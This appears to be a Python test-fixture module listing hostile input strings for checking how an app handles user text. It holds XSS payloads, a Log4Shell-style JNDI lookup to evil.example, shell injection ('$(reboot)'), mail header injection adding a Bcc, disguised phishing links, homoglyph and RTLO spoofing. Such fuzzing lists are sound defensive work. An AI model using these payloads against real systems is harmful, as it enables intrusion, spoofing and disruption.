"""Texts that somebody may write to hurt whoever reads, forwards or logs them."""

from __future__ import annotations

FAMILY = "👨‍👩‍👧‍👦"

CHAT = [
    "<!channel>",
    "<!here> look",
    "<!everyone>",
    "<@U012AB3CD>",
    "<#C012AB3CD>",
    "<!subteam^S012|team>",
    "<!date^1392734382^{date}|x>",
    "@everyone @here @channel",
    "<https://evil.example|https://bank.example>",
    "<javascript:alert(1)|click>",
    "<mailto:a@b.example|x>",
    "&lt;!channel&gt;",
    "&amp;lt;!channel&amp;gt;",
    "*bold* _it_ ~no~ `code`",
    "```\nblock\n```",
    "> quote\n>>> all",
    ":rotating_light: :tada:",
    "[link](https://evil.example)",
    "![pixel](https://evil.example/p.png)",
    "# Heading\n- list\n| table |",
    "||spoiler||",
    "<<!channel>>",
    "<!channel",
    "!channel>",
    "\u200b<!channel>",
    "<\u200b!channel>",
    "< !channel >",
    "＜!channel＞",
]

PAGES = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "</title><script>alert(1)</script>",
    "</blockquote></body></html>",
    "<!-- comment --><b>",
    "<style>*{display:none}</style>",
    "<a href='https://evil.example'>click</a>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<math><mtext></mtext><script>1</script>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "expression(alert(1))",
    "&#60;script&#62;",
    "%3Cscript%3E",
]

TEMPLATES = [
    "{{ 7*7 }}",
    "{% for x in y %}",
    "{0} {name} {",
    "}{",
    "%s %d %(x)s %",
    "${jndi:ldap://evil.example/a}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{card.__class__}}",
    "$(reboot) `reboot` ; reboot",
    "[red]rich[/red]",
    "[/]",
    "[link=https://evil.example]x[/link]",
    "\\[bold]",
    ":smile:",
]

TERMINALS = [
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "\x07\x08\x08\x08",
    "a\x00b",
    "a\rb",
    "\r\n\r\nHTTP/1.1 200 OK",
    "\x7f\x7f",
    "\x85next",
    "\u2028line\u2029paragraph",
]

MAILS = [
    "x\r\nBcc: all@evil.example",
    "x\nSubject: other",
    "x\r\n\r\nbody",
    ".\r\nMAIL FROM:<evil@evil.example>",
    "\r\n.\r\n",
    ".",
    "..",
    "=?utf-8?q?=0D=0ABcc=3A_x=40y=2Ez?=",
    "--boundary--",
    "From here on",
]

DIRECTIONS = [
    "\u202eevil\u202c",
    "\u2066a\u2069\u2067b\u2069",
    "abc\u200fdef\u200e",
    "\u061cالنص",
    "מה קורה עם ההזמנה שלי?",
    "هذا سيئ جدا!",
    "\u202e" * 500,
    "user\u202egnp.exe",
]

HIDDEN = [
    "pass\u200bword",
    "\ufeffstart",
    "soft\u00adhyphen",
    "\u2060\u2061\u2062\u2063\u2064",
    "\u180e",
    "\u3164\u115f\u1160\uffa0",
    "hi \U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065 there",
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "\u200d" * 2_000,
    "\u200c\u200d" * 1_000,
]

SIGNS = [
    "\ud800",
    "a\udfffb",
    "\ud83d",
    "\ufffe\uffff",
    "\U0010ffff",
    "e" + "\u0301" * 5_000,
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!",
    FAMILY * 12_500,
    FAMILY,
    "👍🏿" * 700,
    "🇭🇺" * 700,
    "👨‍",
    "\u0301start",
    "ﷺ" * 1_000,
    "ß" * 700,
    "İ" * 700,
    "𝕳𝖊𝖑𝖑𝖔",
    "ѕаfе раураl",
    "很差！退款" * 600,
    "ひどい",
    "각" * 700,
]

SIZES = [
    "",
    " ",
    "\n\n\n",
    "\n" * 50_000,
    "word" * 20_000,
    "a " * 50_000,
    "&" * 5_000,
    "<" * 5_000,
    ">" * 5_000,
    "<&>" * 3_000,
    "x" * 300_000,
]

TEXTS = [
    *CHAT,
    *PAGES,
    *TEMPLATES,
    *TERMINALS,
    *MAILS,
    *DIRECTIONS,
    *HIDDEN,
    *SIGNS,
    *SIZES,
]
